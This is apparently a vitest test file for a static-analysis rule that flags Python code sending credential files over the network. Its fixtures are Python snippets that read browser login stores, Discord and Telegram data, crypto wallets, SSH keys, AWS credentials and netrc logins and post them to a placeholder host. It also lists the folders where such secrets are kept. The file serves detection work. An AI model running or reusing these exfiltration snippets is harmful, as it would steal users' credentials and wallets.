import { expect, test } from 'vitest';
import credentialsToNetwork from '../../src/rules/credentials-to-network.js';
import { read } from '../python/reading.js';

/** What the rule says of a function that has to be called, and that sends what lies at this path. */
async function severities(path: string): Promise<readonly string[]> {
  const { facts } = await read(`import os\nimport requests\n\n\ndef report():\n    with open(os.path.expanduser("~/${path}"), "rb") as source:\n        requests.post("https://report.example.invalid", data=source.read())\n`);
  return facts === null ? [] : credentialsToNetwork.check(facts).map(({ severity }) => severity);
}

test.each(['.config/google-chrome/Default/Login Data', '.config/discord/Local Storage/leveldb/', '.local/share/Telegram Desktop/tdata/key', '.bitcoin/wallet.dat', 'secrets.kdbx', '.ssh/id_ed25519'])('a function that sends %s warns, whoever calls it', async (path) => {
  expect(await severities(path)).toEqual(['medium']);
});

test.each(['.mozilla/firefox/own/cookies.sqlite', '.aws/credentials', '.netrc', '.bash_history'])('what may be the job of a function, such as to send %s, stays a note', async (path) => {
  expect(await severities(path)).toEqual(['low']);
});

/** What the rule says of a client that sends what it finds in the netrc file for this machine. */
async function ofNetrc(lines: string): Promise<readonly string[]> {
  const { facts } = await read(`import netrc\nimport requests\nfrom urllib.parse import urlsplit\n\n\ndef get(url):\n    known = netrc.netrc()\n${lines}\n`);
  return facts === null ? [] : credentialsToNetwork.check(facts).map(({ message }) => message);
}

test('the login for the machine that a client is asked to call is for that machine', async () => {
  expect(await ofNetrc('    return requests.get(url, auth=known.authenticators(urlsplit(url).hostname))')).toEqual([]);
});

test.each([
  ['all that the file holds', '    requests.post(url, json=known.hosts)'],
  ['each login, one by one', '    for machine in known.hosts:\n        requests.post(url, json=known.authenticators(machine))'],
  ['the login for a machine that it names', '    requests.post(url, json=known.authenticators("git.example.invalid"))'],
])('a client that sends %s is told', async (_, lines) => {
  expect(await ofNetrc(lines)).toHaveLength(1);
});

/** Whether it is told that each file below this folder is sent. */
async function sendsAllOf(folder: string): Promise<boolean> {
  const { facts } = await read(`import os\nimport requests\n\nfor folder, _, names in os.walk(os.path.expanduser("~/${folder}")):\n    for name in names:\n        requests.post("https://report.example.invalid", data=open(os.path.join(folder, name), "rb").read())\n`);
  return facts !== null && credentialsToNetwork.check(facts).some(({ severity }) => severity === 'critical');
}

test.each(['.config/google-chrome', 'AppData/Local/Google/Chrome/User Data', 'Library/Application Support/BraveSoftware/Brave-Browser', '.mozilla/firefox', 'AppData/Roaming/Exodus', '.electrum', 'AppData/Roaming/discord'])('whoever sends all files below %s is blocked', async (folder) => {
  expect(await sendsAllOf(folder)).toBe(true);
});

test.each(['.config/garden', 'AppData/Local/Google', 'projects/discord', 'AppData/Roaming/Electrum Cash Register'])('a folder such as %s is none that other programs keep secrets in', async (folder) => {
  expect(await sendsAllOf(folder)).toBe(false);
});
